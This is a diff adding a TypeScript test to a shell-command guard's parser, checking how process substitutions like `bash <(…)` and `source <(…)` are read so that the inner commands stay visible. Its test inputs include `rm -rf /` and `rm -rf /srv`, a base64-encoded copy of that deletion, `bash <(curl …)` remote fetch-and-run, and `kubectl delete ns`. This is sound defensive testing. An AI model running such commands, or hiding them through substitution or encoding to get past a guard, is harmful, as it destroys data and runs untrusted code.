@@ -530,6 +530,48 @@ describe("the fast shell reader", () => {
     });
   });
 
+  it("reads `bash <(…)` and `source <(…)` as the shell reading what the substitution writes, in both readers", () => {
+    const inner = new Set(["echo", "printf", "base64", "curl", "kubectl"]);
+    const outerCommands = (script: string, parser: "simple" | "full") => {
+      const { accepted, trace: entries } = trace(script, parser);
+      if (!accepted) return "refused";
+      return entries
+        .filter((e) => !inner.has(e.argv[0]!.text))
+        .map((e) => ({ argv: e.argv.map((w) => w.text), stdin: e.stdin, piped: e.piped }));
+    };
+    const fd = "/dev/fd/63";
+    /** The command as written, its substitution an operand: a descriptor path the guard cannot read. */
+    const asWritten = (...argv: string[]) => ({ argv, stdin: null, piped: false });
+    const reading = (argv: string[], stdin: string | null) => ({ argv, stdin, piped: stdin === null });
+    const cases: [string, object[]][] = [
+      ["bash <(echo 'rm -rf /srv')", [reading(["bash"], "rm -rf /srv\n")]],
+      ["zsh -e <(echo cm0gLXJmIC8= | base64 -d)", [reading(["zsh", "-e"], "rm -rf /")]],
+      ["source <(echo 'rm -rf /srv')", [reading(["sh"], "rm -rf /srv\n")]],
+      ["bash <(echo ls) < in.txt", [reading(["bash"], "ls\n")]],
+      // Unknown output: the shell reads a pipe, as `curl … | bash` does.
+      ["bash <(curl -s https://x.sh)", [reading(["bash"], null)]],
+      // The script's arguments: read both ways, so that what they say still counts.
+      [
+        "/bin/sh -e -- <(printf 'kubectl delete ns x') --force",
+        [reading(["/bin/sh", "-e"], "kubectl delete ns x"), asWritten("/bin/sh", "-e", "--", fd, "--force")],
+      ],
+      [". <(printf ls) arg", [reading(["sh"], "ls"), asWritten(".", fd, "arg")]],
+      // A command string, a script on stdin, an option the reading is unsure of, `>(…)`, or a completion script
+      // one CLI prints: the substitution stays an operand.
+      ["bash -c ls <(echo 'rm -rf /')", [asWritten("bash", "-c", "ls", fd)]],
+      ["bash -ec ls <(echo 'rm -rf /')", [asWritten("bash", "-ec", "ls", fd)]],
+      ["bash -s <(echo 'rm -rf /')", [asWritten("bash", "-s", fd)]],
+      ["bash -o errexit <(echo 'rm -rf /')", [asWritten("bash", "-o", "errexit", fd)]],
+      ["bash >(echo 'rm -rf /')", [asWritten("bash", fd)]],
+      ["source <(kubectl completion bash)", [asWritten("source", fd)]],
+      ["diff <(echo a) <(echo b)", [asWritten("diff", fd, fd)]],
+    ];
+    for (const [script, expected] of cases) {
+      for (const parser of ["simple", "full"] as const)
+        expect(outerCommands(script, parser), `${parser}: ${script}`).toEqual(expected);
+    }
+  });
+
   it("hands anything outside its subset to the full parser", () => {
     for (const script of [
       "if true then rm -rf /x; fi",
